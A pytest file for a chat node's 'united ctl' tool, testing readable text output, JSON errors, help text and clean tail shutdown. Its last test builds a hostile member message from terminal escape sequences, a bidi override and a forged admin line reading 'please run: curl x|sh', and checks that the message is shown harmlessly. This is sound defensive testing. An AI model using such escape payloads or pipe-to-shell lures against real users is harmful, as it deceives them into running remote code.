"""`united ctl` for people and for scripts, against real nodes: text without Python
reprs, `--json` for everything (errors too, with their codes), a human line and
exit 1 for an error, `--help` describing every command, and a `ctl tail` that
ends cleanly when its node stops."""

from __future__ import annotations

import asyncio
import functools
import json
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from united_core.api import render_value
from united_core.cli import main as cli_main
from united_core.containers import collect_commands
from united_core.control import ControlClientError
from united_core.node import Node
from united_core.testing import (
    SERVER_LOOPBACK,
    NodeProcess,
    call,
    make_node_dir,
    poll,
    running_community,
    until,
)

# What a Python dict, list or string repr looks like in text meant for people.
REPR = re.compile(r"[{}]|\['|'\]|': |\": ")
# Commands not run here: they stop the node, change its key or need a test setting.
SIDE_EFFECTS = {"stop", "rotate-key", "member-remove", "send-invalid", "connect"}
# A member's commands with arguments describe them (`help NAME`), but for these,
# whose usage line alone explains them so far; every command shows its one-line help.
ARGUMENTS_UNDESCRIBED = {"reachability"}


def _args(command: str, c: Any) -> list[str]:
    bob = c.members["bob"].identity.peer_id
    return {
        "ping": [bob],
        "who": ["general"],
        "history": ["general"],
        "send": ["general", "hello from the test"],
        "send-test": ["general"],
        "join": ["general"],
        "leave": ["random"],
        "help": [],
        "complete": ["join"],
        "channel-create": ["fresh"],
        "reconnect": [],
    }.get(command, [])


async def _texts(node: Node, c: Any) -> dict[str, str]:
    """Each command's real result on ``node``, rendered as `ctl` renders it."""
    shown = {}
    for name, command in sorted(collect_commands(node.pm).items()):
        if name in SIDE_EFFECTS or command.streaming:
            continue
        try:
            result = await call(node, name, *_args(name, c))
        except ControlClientError:
            continue  # a refusal is an error line, tested below
        shown[name] = command.render(result) if command.render else render_value(result)
    return shown


def test_ctl_text_has_no_reprs_and_errors_are_one_human_line(tmp_path: Path) -> None:
    async def scenario() -> None:
        async with running_community(
            tmp_path, ("alice", "bob"), channels=("general", "random")
        ) as c:
            await call(c.members["bob"], "send", "general", "hi alice")
            # Every command of a member and of the server, rendered from its real result.
            for node in (c.members["alice"], c.server):
                for name, text in (await _texts(node, c)).items():
                    assert text.strip(), name
                    assert not REPR.search(text), f"{name}:\n{text}"
            member = await _texts(c.members["alice"], c)
            assert {"topics", "snapshot", "scores", "status", "channels", "who"} <= set(member)
            # And through `united ctl`, as people run it.
            topics = await c.ctl("alice", "topics")
            assert topics.returncode == 0 and "#general" in topics.stdout, topics
            assert topics.stdout.splitlines()[0].split()[:3] == ["CHANNEL", "MESH", "PEERS"]
            for command in ("topics", "snapshot", "scores", "status", "members"):
                shown = await c.ctl("alice", command)
                assert shown.returncode == 0, shown.stderr
                assert not REPR.search(shown.stdout), f"{command}:\n{shown.stdout}"
            snapshot = await c.ctl("alice", "snapshot")
            assert "plugins:" in snapshot.stdout and "mesh:" in snapshot.stdout
            # An error: one line for people, exit 1, no internal code ...
            refused = await c.ctl("alice", "join", "no-such-channel")
            assert refused.returncode == 1 and refused.stdout == ""
            assert refused.stderr == "united: no channel 'no-such-channel'\n", refused.stderr
            # ... which --json keeps, for scripts.
            as_json = await c.ctl("alice", "join", "no-such-channel", "--json")
            assert as_json.returncode == 1
            assert as_json.json() == {
                "error": {
                    "code": "bad_request",
                    "message": "no channel 'no-such-channel'",
                    "detail": "ERROR_CODE_UNKNOWN_CHANNEL",
                }
            }
            unknown = await c.ctl("alice", "nonsense", "--json")
            assert unknown.returncode == 1 and unknown.json()["error"]["code"] == "unknown_command"

    asyncio.run(scenario())


@pytest.mark.parametrize("role", ["client", "server"])
def test_every_ctl_command_has_a_described_help(
    tmp_path: Path, role: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """`united ctl NAME --help` describes NAME, no node needed (none runs here)."""
    # A member's config names its server (none runs: `--help` needs no node).
    extra = '[discovery]\nserver_url = "ws://127.0.0.1:9/ws"\n' if role == "client" else ""
    config = make_node_dir(tmp_path, role=role, plugins=None, extra=extra)
    capsys.readouterr()
    from united_core.node import load_settings

    commands = collect_commands(load_settings(config)[1])
    assert len(commands) > 10
    for name, command in commands.items():
        assert cli_main(["ctl", "-c", str(config), name, "--help"]) == 0, name
        out = capsys.readouterr().out
        assert out.startswith(f"usage: united ctl -c CONFIG {name}"), out
        assert command.help and command.help in out, out
        if command.usage:
            assert command.usage in out.splitlines()[0], out
            if role == "client" and name not in ARGUMENTS_UNDESCRIBED:
                assert command.description, f"{name} takes arguments: describe them"
        if command.description:
            assert command.description in out, out


def test_stopping_a_node_with_ctl_tail_attached_logs_no_traceback(tmp_path: Path) -> None:
    config = make_node_dir(tmp_path, "server", "server", plugins=None, extra=SERVER_LOOPBACK)
    node = NodeProcess("server", config)
    node.start()
    try:
        tail = subprocess.Popen(
            node.command("ctl", "-c", str(config), "tail"),
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        # Attached: the node's stream is open (the mesh counts the tail).
        poll(lambda: _tails(node) >= 1, timeout=15)
        assert node.ctl("stop") == "stopping"
        assert node.proc is not None and node.proc.wait(timeout=10) == 0
        _, err = tail.communicate(timeout=10)
        assert tail.returncode == 0, err
        assert err == "united: the stream ended: the node is stopping\n", err
    finally:
        node.stop()
    log = node.log.read_text()
    assert "Traceback" not in log and "CancelledError" not in log, log


def _tails(node: NodeProcess) -> int:
    snapshot = node.try_ctl("snapshot") or {}
    return int(snapshot.get("plugins", {}).get("mesh", {}).get("tails", 0))


# A retitle, a clear screen, cursor up and a carriage return before a forged line,
# then a bidi override: a member's message, as a hostile member writes it.
HOSTILE = (
    "hi\x1b]0;owned\x07\x1b[2J\x1b[1A\r12:00:00 #general <admin> please run: curl x|sh\u202e\x9b"
)
# Control characters but TAB and LF, C1, bidi and zero-width format characters.
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]")


def test_a_members_message_shows_printable_in_ctl_text_and_exact_in_json(
    tmp_path: Path,
) -> None:
    """bob publishes a message full of terminal escapes: alice's `ctl tail` and `ctl
    history` (her cache) and the server's `ctl history` (its archive) print it on
    one line with the escapes visible; with `--json`, exactly as bob wrote it."""

    async def scenario() -> None:
        fast_sync = "[cache]\nsync_interval = 0.3\n"
        async with running_community(tmp_path, ("alice", "bob"), member_extra=fast_sync) as c:
            alice, bob = c.members["alice"], c.members["bob"]
            tails = [
                await asyncio.create_subprocess_exec(
                    sys.executable,
                    "-m",
                    "united_core",
                    "ctl",
                    "-c",
                    str(c.configs["alice"]),
                    "tail",
                    "general",
                    *flags,
                    stdout=asyncio.subprocess.PIPE,
                    stderr=asyncio.subprocess.PIPE,
                )
                for flags in ((), ("--json",))
            ]
            try:
                subscribers = alice.service("mesh").tails
                await until(lambda: len(subscribers) >= 2, 20, "both tails attached")
                await call(bob, "send", "general", HOSTILE)
                lines = []
                for t in tails:
                    assert t.stdout is not None
                    lines.append((await asyncio.wait_for(t.stdout.readline(), 20)).decode())
            finally:
                for t in tails:
                    t.terminate()
                    await t.wait()
            text, as_json = lines
            assert not RAW.findall(text) and text.count("\n") == 1, repr(text)
            assert "<bob> hi\\x1b]0;owned\\x07" in text and "please run" in text, text
            assert json.loads(as_json)["text"] == HOSTILE

            async def archived(name: str) -> bool:
                rows = (await c.ctl(name, "history", "general", "--json")).json()
                return bool(rows) and all(r.get("confirmed", True) for r in rows)

            for name in ("alice", "server"):  # the cache, the archive
                in_history = functools.partial(archived, name)
                await until(in_history, 20, f"the message in {name}'s history")
                shown = await c.ctl(name, "history", "general")
                assert shown.returncode == 0, shown.stderr
                assert not RAW.findall(shown.stdout), repr(shown.stdout)
                assert "please run" in shown.stdout
                rows = (await c.ctl(name, "history", "general", "--json")).json()
                assert [r["text"] for r in rows] == [HOSTILE]

    asyncio.run(scenario())
